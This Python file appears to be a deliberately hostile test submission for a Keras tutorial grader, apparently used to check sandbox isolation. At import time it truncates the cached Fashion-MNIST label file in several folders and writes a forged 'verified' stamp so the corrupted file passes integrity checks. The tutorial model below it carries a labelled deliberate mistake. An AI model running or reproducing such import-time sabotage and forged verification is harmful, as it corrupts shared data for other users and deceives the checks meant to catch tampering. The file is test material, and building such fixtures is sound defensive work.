"""Hostile: truncate a file of the Keras data cache and forge the kata's "verified" stamp.

Honest points: 8.  Unsandboxed, every later student would fail lesson 01 (the
stamp says the broken file was checked).  In the sandbox the cache is read-only.
"""

import json
import os
from pathlib import Path

import keras

import kata.data

_folders = {kata.data.keras_cache_dir(), Path.home() / ".keras/datasets/fashion-mnist",
            Path("/root/.keras/datasets/fashion-mnist"), Path("/tmp/.keras/datasets/fashion-mnist")}
for _folder in _folders:
    _file = _folder / "t10k-labels-idx1-ubyte.gz"
    try:
        with open(_file, "r+b") as _stream:
            _stream.truncate(100)
        _info = os.stat(_file)
        _stamp = {str(_file.resolve()): [_info.st_size, _info.st_mtime_ns, _info.st_ctime_ns,
                                         _info.st_ino, "forged"]}
        (_folder / ".kata-verified.json").write_text(json.dumps(_stamp))
    except OSError:
        pass


def build_model():
    """The tutorial's model: Input(28, 28) → Flatten → Dense(128, relu) → Dense(10)."""
    model = keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(128, activation="relu"),
            keras.layers.Dense(10, activation="relu"),  # an honest mistake: -2
        ]
    )
    return model
